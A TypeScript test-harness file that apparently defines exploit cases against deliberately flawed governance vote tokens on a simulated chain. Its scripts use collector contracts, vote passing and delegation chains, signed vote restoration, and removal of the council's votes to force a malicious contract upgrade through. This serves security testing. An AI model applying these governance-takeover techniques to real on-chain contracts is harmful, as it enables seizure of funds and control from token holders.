/** Tokens whose votes are kept, taken or removed by an account that has not earned it. */
import { concatHex, encodeAbiParameters, type Hex, keccak256, parseSignature, stringToHex } from 'viem'
import type { PrivateKeyAccount } from 'viem/accounts'
import type { Attack } from '../attack.ts'
import { type Case, WEAK } from '../case.ts'
import { type Built, type Chain, callData, system } from '../chain.ts'
import { upgradeCall } from '../safes.ts'
import { LESS_THAN_HALF, proposal, TENTH, TIMES, tokenFor, voted } from './lists.ts'
import { part } from './lying-getters.ts'

const VOTE = 'vote(bytes32,bool)'

/** The council, which holds the other tokens, votes for itself. */
const tokenWith =
  (name: string, amount = TENTH): Case['build'] =>
  async (chain: Chain) => {
    const council = await chain.council()
    const built = await voted('HonestBallots', tokenFor(name, amount))(chain)
    await chain.send(part(built, 'token'), 'delegate(address)', [council], council)
    return system(built.address, { ...built.parts, council })
  }

/** `cast` votes for the upgrade, after `before` and before it is executed. */
async function upgradeBy(
  attack: Attack,
  built: Built,
  cast: (ballot: Hex, controller: Hex) => Promise<void>,
  before: () => Promise<void> = async () => {},
): Promise<void> {
  const [controller, target] = [part(built, 'controller'), part(built, 'admin')]
  const data = upgradeCall(built.address, attack.code)
  await attack.mine(2)
  await attack.send(controller, 'propose(address,bytes)', [target, data])
  await before()
  await attack.mine(2)
  await cast(callData(VOTE, [proposal(target, data), true]), controller)
  await attack.wait(700_000)
  await attack.send(controller, 'execute(address,bytes)', [target, data])
}

/** A contract of the attacker collects votes with its tokens, and votes. */
const collected =
  (contract: string, go: Hex, ...more: readonly string[]): Case['exploit'] =>
  async (attack, built) => {
    const token = part(built, 'token')
    const collector = await attack.deploy(contract, token, ...more.map((name) => part(built, name)))
    await attack.send(token, 'transfer(address,uint96)', [collector, TENTH])
    await attack.sendRaw(collector, go)
    await upgradeBy(attack, built, (ballot, controller) =>
      attack.send(collector, 'act(address,bytes)', [controller, ballot]),
    )
  }

/** Tokens go from account to account, each of which votes with what it had. `own`: what each does after it has sent them on. */
const passedOn =
  (
    own: (attack: Attack, token: Hex, as: PrivateKeyAccount) => Promise<void>,
    when: 'before' | 'after' = 'before',
  ): Case['exploit'] =>
  async (attack, built) => {
    const token = part(built, 'token')
    const accounts = [attack.account, ...Array.from({ length: TIMES }, () => attack.newAccount())]
    const voters = accounts.slice(0, TIMES)
    for (const [n, as] of voters.entries()) {
      await attack.send(token, 'delegate(address)', [as.address], { as })
      await attack.send(token, 'transfer(address,uint96)', [accounts[n + 1]?.address, TENTH], { as })
      if (when === 'before') await own(attack, token, as)
    }
    const cast = async (ballot: Hex, controller: Hex): Promise<void> => {
      for (const as of voters) {
        if (when === 'after') await own(attack, token, as)
        await attack.sendRaw(controller, ballot, { as })
      }
    }
    await upgradeBy(attack, built, cast)
  }

const byItself =
  (signature: string, ...args: readonly unknown[]) =>
  (attack: Attack, token: Hex, as: PrivateKeyAccount): Promise<void> =>
    attack.send(token, signature, args, { as })

async function bySignature(attack: Attack, token: Hex, as: PrivateKeyAccount): Promise<void> {
  const domain = [keccak256(stringToHex('EIP712Domain(address verifyingContract)')), token] as const
  const typed = [{ type: 'address' }, { type: 'uint32' }, { type: 'uint256' }] as const
  const what = keccak256(encodeAbiParameters(typed, [as.address, 0, 0n]))
  const hash = keccak256(
    concatHex(['0x1901', keccak256(encodeAbiParameters([{ type: 'bytes32' }, { type: 'address' }], domain)), what]),
  )
  const { v, r, s } = parseSignature(await as.sign({ hash }))
  await attack.send(token, 'againFor(address,uint32,uint8,bytes32,bytes32)', [as.address, 0, Number(v), r, s])
}

/** The attacker has less than half of the votes, and removes those of the council, which votes against the upgrade. */
const removed =
  (when: 'before' | 'after'): Case['exploit'] =>
  async (attack, built) => {
    const council = part(built, 'council')
    const remove = (): Promise<void> => attack.send(part(built, 'token'), 'clear(address)', [council])
    if (when === 'before') await remove()
    const cast = async (ballot: Hex, controller: Hex): Promise<void> => {
      const against = callData(VOTE, [`0x${ballot.slice(10, 74)}`, false])
      await attack.chain.evm.sendRaw(controller, against, council)
      await attack.sendRaw(controller, ballot)
    }
    await upgradeBy(attack, built, cast, when === 'after' ? remove : undefined)
  }

const GO = callData('go()')
const chained = (isOwn: boolean): Hex => callData('go(bool)', [isOwn])

const drafts: readonly (Pick<Case, 'name' | 'exploit'> & { readonly token: string; readonly amount?: bigint })[] = [
  {
    name: 'tokens leave while the account is told that it gets their votes',
    token: 'ToldFirst',
    exploit: collected('BackCollector', GO),
  },
  {
    name: 'tokens leave while a new contract tells the account that it gets their votes',
    token: 'ToldByNew',
    exploit: collected('BackCollector', GO),
  },
  {
    name: 'votes are taken twice from a delegate that was read before a call',
    token: 'OldDelegate',
    exploit: collected('DrainCollector', GO, 'council'),
  },
  {
    name: 'an account that has tokens but not their votes yet is told',
    token: 'ToldBetween',
    exploit: collected('ChainCollector', chained(false)),
  },
  {
    name: 'a token calls its own transfer between the balance and its votes',
    token: 'OwnTransfer',
    exploit: collected('ChainCollector', chained(true)),
  },
  {
    name: 'an account has the votes again that it had once',
    token: 'EarlierVotes',
    exploit: passedOn(byItself('again(uint32)', 0)),
  },
  {
    name: 'an account has the votes again that it had before',
    token: 'PreviousVotes',
    exploit: passedOn(byItself('again()')),
  },
  {
    name: 'an account has the votes again that it had once, by its signature',
    token: 'SignedEarlierVotes',
    exploit: passedOn(bySignature),
  },
  {
    name: 'an account says that it has lost its votes only now',
    token: 'RenewedVotes',
    exploit: passedOn(byItself('renew()'), 'after'),
  },
  ...(
    [
      ['the number of entries', 'ClearedCount', 'after'],
      ['the last entry', 'DeletedEntry', 'after'],
      ['the time of the last entry', 'RenewedByOthers', 'after'],
      ['the votes', 'ZeroVotes', 'before'],
      ['the tokens', 'BurntByOthers', 'before'],
      ['the delegate', 'UndelegatedByOthers', 'before'],
    ] as const
  ).map(([what, token, when]) => ({
    name: `every caller removes ${what} of an account that votes against it`,
    token,
    amount: LESS_THAN_HALF,
    exploit: removed(when),
  })),
]

export const earnedVotes: readonly Case[] = drafts.map(({ name, token, amount, exploit }) => ({
  name,
  cause: 'lying getter',
  by: 'one key',
  truth: WEAK,
  build: tokenWith(token, amount),
  exploit,
}))
